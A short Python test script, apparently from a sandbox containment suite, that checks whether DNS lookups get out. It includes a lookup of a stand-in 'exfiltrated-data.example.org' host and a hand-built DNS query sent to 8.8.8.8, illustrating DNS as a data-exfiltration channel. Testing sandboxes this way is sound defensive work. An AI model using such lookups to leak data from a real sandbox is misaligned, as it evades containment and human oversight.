# Asks for the addresses of names: that alone carries data out.
# source: history 34 (sandbox-mcp)
# control: none it needs the internet
import socket

from attempts import attempt

attempt("getaddrinfo", lambda: socket.getaddrinfo("example.com", 80))
attempt("gethostbyname", lambda: socket.gethostbyname("exfiltrated-data.example.org"))


def ask():
    query = b"\0\1\1\0\0\1\0\0\0\0\0\0\7example\3com\0\0\1\0\1"
    with socket.socket(type=socket.SOCK_DGRAM) as client:
        client.settimeout(1)
        client.sendto(query, ("8.8.8.8", 53))
        return client.recv(512)


attempt("a query of its own", ask)
